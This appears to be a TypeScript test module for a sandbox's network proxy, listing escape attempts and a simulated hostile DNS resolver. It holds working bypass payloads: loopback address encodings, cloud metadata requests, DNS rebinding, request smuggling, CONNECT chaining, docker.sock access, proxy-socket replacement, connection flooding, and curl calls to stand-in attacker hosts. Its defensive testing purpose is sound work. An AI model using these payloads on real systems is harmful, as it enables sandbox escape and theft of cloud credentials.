/**
 * Attacks on the network of a sandbox whose policy allows one server. Each first reaches that server, so an attack that fails because
 * nothing works counts as an escape. The network outside is hostile: names lead to the machine, to its metadata service, and change.
 */
import net from 'node:net';
import type { Outside } from '../../../daemon/network/dial.ts';
import { insideProxyPort } from '../../../schemas/daemon/limits.ts';
import { type Attack, printedSecret, type Targets } from './attacks.ts';

const metadata = '169.254.169.254';

/** Whatever may be connected to beside the allowed server is the server with the secret. */
export function hostileNetwork({ port, allowedPort }: Targets): Outside {
  let answers = 0;
  return {
    resolve: async (host) => {
      answers += 1;
      if (host.startsWith('metadata.')) return [metadata, 'fd00:ec2::254', '::ffff:a9fe:a9fe'];
      if (host.startsWith('rebind.')) return [answers % 2 === 1 ? '127.0.0.1' : metadata];
      return ['127.0.0.1', '::1', '::ffff:127.0.0.1'];
    },
    isOwn: () => false,
    connect: (address, to) =>
      net.connect({ host: '127.0.0.1', port: address === '127.0.0.1' && to === allowedPort ? to : port }),
  };
}

/**
 * Writes lines as they are to a port or a socket, and prints what comes back, for a while or until the other side closes. The server that is allowed
 * is waited for, because a busy machine delays it.
 */
const sender = `say() { /workrail/node -e '
const [to, ...lines] = process.argv.slice(1);
const socket = require("net").connect(/^[0-9]+$/.test(to) ? { host: "127.0.0.1", port: Number(to) } : to);
socket.on("data", (data) => process.stdout.write(data)).on("error", () => {});
socket.write(lines.map((line) => line + "\\r\\n").join("") + "\\r\\n");
setTimeout(() => socket.destroy(), Number(process.env.WAIT ?? 700)).unref()' "$@"; }
welcome() {
  for each in $(seq 100); do
    if WAIT=60000 say ${insideProxyPort} "GET $1 HTTP/1.1" "Host: x" "Connection: close" | grep -a WELCOME; then return; fi
    sleep 0.1
  done
  echo GONE
}`;

const attack = (name: string, script: (targets: Targets) => readonly string[]): Attack => ({
  name,
  hosts: ({ allowedPort }) => [`127.0.0.1:${allowedPort}`, '*.attacker.example'],
  script: (targets) => [sender, `welcome http://127.0.0.1:${targets.allowedPort}/`, ...script(targets)].join('\n'),
  escapedIf: (printed, targets) =>
    printedSecret(printed, targets) || !printed.includes('WELCOME') || /^GONE$/m.test(printed),
});

const get = (url: string, ...headers: readonly string[]) =>
  `say ${insideProxyPort} "GET ${url} HTTP/1.1" ${headers.map((each) => `"${each}"`).join(' ')} "Connection: close"`;
const tunnel = (to: string, proxy: string | number = insideProxyPort) =>
  `say ${proxy} "CONNECT ${to} HTTP/1.1" "" "GET / HTTP/1.1" "Host: x"`;

export const networkAttacks: readonly Attack[] = [
  attack('reach a host that is not allowed', ({ port }) => [
    get(`http://127.0.0.1:${port}/`),
    tunnel(`127.0.0.1:${port}`),
    ...['localhost', '2130706433', '0x7f.1', '127.1', '0', '[::1]', '[::ffff:127.0.0.1]', '127.0.0.2'].map((host) =>
      tunnel(`${host}:${port}`),
    ),
    `for url in http://127.0.0.1:${port}/ http://evil.example/; do curl -s -m 3 $url; curl -s -m 3 --proxytunnel $url; curl -s -m 3 --noproxy '*' $url; done`,
  ]),
  attack('reach the metadata service of a cloud', () => [
    tunnel(`${metadata}:80`),
    get(`http://${metadata}/latest/meta-data/`),
    tunnel('[fd00:ec2::254]:80'),
    tunnel('metadata.attacker.example:80'),
    get('http://metadata.attacker.example/latest/api/token', `Host: ${metadata}`),
  ]),
  attack('reach the machine by a name of the attacker', ({ port }) => [
    get('http://local.attacker.example/'),
    tunnel('local.attacker.example:443'),
    tunnel(`local.attacker.example:${port}`),
  ]),
  attack('rebind a name between two look-ups', () =>
    Array.from(
      { length: 4 },
      () => `${tunnel('rebind.attacker.example:443')}; ${get('http://rebind.attacker.example/')}`,
    ),
  ),
  attack('mislead the proxy by headers', ({ port, allowedPort }) => [
    get(`http://127.0.0.1:${allowedPort}/`, `Host: 127.0.0.1:${port}`),
    get(`http://127.0.0.1:${allowedPort}@127.0.0.1:${port}/`),
    get(`http://127.0.0.1:${allowedPort}#@127.0.0.1:${port}/`),
    get(`http://127.0.0.1:${port}/`, `Host: 127.0.0.1:${allowedPort}`, `X-Forwarded-Host: 127.0.0.1:${allowedPort}`),
    get('/', `Host: 127.0.0.1:${port}`),
    `say ${insideProxyPort} "GET http://127.0.0.1:${allowedPort}/ HTTP/1.1" "Content-Length: 3" "Transfer-Encoding: chunked" "" "0" "" "GET http://127.0.0.1:${port}/ HTTP/1.1" "Host: x"`,
    `say ${insideProxyPort} "GET http://127.0.0.1:${allowedPort}/ HTTP/1.1" "Host: x" "" "GET http://127.0.0.1:${port}/ HTTP/1.1" "Host: x"`,
  ]),
  attack('connect to a socket of the machine', ({ socket }) =>
    [socket, `unix:${socket}`, `unix:${socket}:80`, '/run/docker.sock:80', `[${socket}]:80`].map((to) => tunnel(to)),
  ),
  attack('reach a proxy through the proxy', ({ port, allowedPort }) => [
    tunnel(`127.0.0.1:${insideProxyPort}`),
    `say ${insideProxyPort} "CONNECT 127.0.0.1:${allowedPort} HTTP/1.1" "" "CONNECT 127.0.0.1:${port} HTTP/1.1" "" "GET / HTTP/1.1" "Host: x"`,
  ]),
  attack('speak to the proxy without the forwarder', ({ port, socket }) => [
    tunnel(`127.0.0.1:${port}`, '/workrail/proxy.sock'),
    tunnel('metadata.attacker.example:80', '/workrail/proxy.sock'),
    tunnel(socket, '/workrail/proxy.sock'),
  ]),
  attack('replace the proxy', ({ socket, port }) => [
    `rm -f /workrail/proxy.sock; mv /workrail/proxy.sock /tmp/p; ln -sf ${socket} /workrail/proxy.sock; chmod 777 /workrail; ls -la /workrail/..`,
    tunnel(`127.0.0.1:${port}`),
  ]),
  attack('exhaust the proxy', ({ allowedPort, port }) => [
    `/workrail/node -e 'for (let i = 0; i < 1500; i++) require("net").connect(i % 2 ? "/workrail/proxy.sock" : { host: "127.0.0.1", port: ${insideProxyPort} }).on("error", () => {}).write(i % 3 ? "CONNECT 127.0.0.1:${allowedPort} HTTP/1.1\\r\\n\\r\\n" : "GET "); setTimeout(() => process.exit(), 1500)'`,
    tunnel(`127.0.0.1:${port}`),
    `welcome http://127.0.0.1:${allowedPort}/`,
  ]),
];
